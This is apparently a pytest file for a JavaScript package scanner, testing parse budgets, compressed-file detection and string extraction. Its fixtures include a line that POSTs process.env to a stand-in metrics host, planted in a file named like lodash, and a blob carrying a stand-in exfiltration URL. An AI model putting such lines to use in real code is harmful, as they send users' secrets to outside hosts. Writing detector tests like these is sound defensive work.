"""A parse over its budget, or content that is not JavaScript text, falls back to the literals.

The fallback is never a silent skip: the file gets a notice, and the rules still see the strings
and URLs a lexer finds in it (a vendor can hide code in a file named like a library).
"""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from agentxray.analyze.driver import AnalyzeOptions, run_detectors
from agentxray.analyze.interface import SourceUnit
from agentxray.analyze.js.parse import (
    ParseOverBudget,
    not_javascript_text,
    parse_js,
    string_spans,
)
from agentxray.analyze.registry import DETECTORS
from agentxray.model import Artifact, FileEntry, StaticResult, TargetSpec, Tree

# Enough ordinary code around the interesting line that tree-sitter reports progress (and so
# checks its budget) many times before it reaches it.
FILLER = b"".join(
    b"function f%d(a) { return a * %d + g(a, [1, 2, 3]); }\n" % (i, i) for i in range(3000)
)
SENDS = (
    b'const u = "https://collect.example-metrics.io/v1/events"; '
    b'fetch(u, {method: "POST", body: JSON.stringify(process.env)});\n'
)
BENIGN = b'const greeting = "hello, " + name; console.log(greeting);\n'


def _tree(root: Path, files: dict[str, bytes]) -> Tree:
    entries = []
    for rel, data in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
        sha = hashlib.sha256(data).hexdigest()
        entries.append(FileEntry(f"pkg!/{rel}", "javascript", len(data), sha, rel))
    spec = TargetSpec(raw=str(root), kind="path", name=str(root))
    return Tree(Artifact(spec, root, "directory", "pkg"), root, tuple(entries))


def _scan(tree: Tree, parse_seconds: float | None) -> StaticResult:
    return run_detectors(tree, DETECTORS, AnalyzeOptions(jobs=1, parse_seconds=parse_seconds))


def _where(result: StaticResult, rule: str) -> list[tuple[str, int | None, int | None]]:
    return [
        (f.location.artifact, f.location.line, f.location.column)
        for f in result.findings
        if f.rule == rule
    ]


def test_over_budget_parse_gets_a_notice_and_keeps_its_string_findings(tmp_path: Path) -> None:
    tree = _tree(tmp_path, {"vendor/lodash.min.js": FILLER + SENDS + FILLER})
    full = _scan(tree, None)
    cut = _scan(tree, 1e-9)  # any progress report is over this budget
    # With the tree: the endpoint, and the environment sent in a request (data flow).
    assert _where(full, "AXR-END-001") == [("pkg!/vendor/lodash.min.js", 3001, 11)]
    assert _where(full, "AXR-EXF-001") == [("pkg!/vendor/lodash.min.js", 3001, 59)]
    assert not [n for n in full.notices if n.code == "parse-too-costly"]
    # Without it: a notice says what was given up, and the URL literal is still reported.
    notices = [(n.code, n.path) for n in cut.notices]
    assert notices == [("parse-too-costly", "pkg!/vendor/lodash.min.js")]
    assert "literal level only" in cut.notices[0].message
    assert _where(cut, "AXR-END-001") == [("pkg!/vendor/lodash.min.js", 3001, 11)]
    assert _where(cut, "AXR-EXF-001") == []  # data flow needs the tree


def test_a_budget_that_holds_changes_nothing(tmp_path: Path) -> None:
    tree = _tree(tmp_path, {"app.js": FILLER + SENDS})
    assert _scan(tree, 60.0).findings == _scan(tree, None).findings
    assert not _scan(tree, 60.0).notices


def test_parse_js_raises_over_its_cpu_budget() -> None:
    with pytest.raises(ParseOverBudget, match="budget of 1e-09 s of CPU time"):
        parse_js(FILLER, max_seconds=1e-9)
    assert parse_js(FILLER, max_seconds=60.0).root_node.end_byte == len(FILLER)


def test_compressed_content_named_like_a_library_is_not_parsed(tmp_path: Path) -> None:
    # zstd frame magic, then bytes with control characters: what Claude Code 2.1.332 ships as
    # mermaid.min.js. A URL in it stays visible to the rules.
    blob = b"\x28\xb5\x2f\xfd\x00\x01\x02" + b'x="https://drop.example-exfil.net/u"\x03' + bytes(64)
    tree = _tree(tmp_path, {"mermaid.min.js": blob, "app.js": BENIGN})
    result = _scan(tree, None)
    got = [(n.code, n.path) for n in result.notices]
    assert got == [("not-javascript-text", "pkg!/mermaid.min.js")]
    assert "zstd-compressed" in result.notices[0].message
    assert _where(result, "AXR-END-001") == [("pkg!/mermaid.min.js", 1, 10)]
    unit = SourceUnit(tree.files[0], blob)
    assert unit.js_tree.root_node.end_byte == 0 and unit.literal_only


def test_not_javascript_text_is_decided_by_content() -> None:
    assert not_javascript_text(FILLER) is None
    assert not_javascript_text(b'var s = "raw \x01 byte";\n' + FILLER) is None  # a stray one
    assert "zstd" in (not_javascript_text(b"\x28\xb5\x2f\xfd" + FILLER) or "")
    assert "gzip" in (not_javascript_text(b"\x1f\x8b\x08\x00" + FILLER) or "")
    # Control bytes are legal in strings and comments: such text is parsed (a way to evade the
    # analysis otherwise), under the CPU budget.
    assert not_javascript_text(bytes(range(256)) * 64) is None


def test_string_spans_skip_comments_and_regular_expressions() -> None:
    src = (
        b'var a = "x://y" + \'it\\\'s\'; // "not a string"\n'
        b"/* 'nor this' */ let r = /[\"']/g, d = a / 2 / 3, t = `t ${a} \"q\"`;\n"
        b"if (x) return /'/.test(s); q = b / c + 'z'"
    )
    got = [src[s:e] for s, e in string_spans(src)]
    assert got == [b'"x://y"', b"'it\\'s'", b'`t ${a} "q"`', b"'z'"]
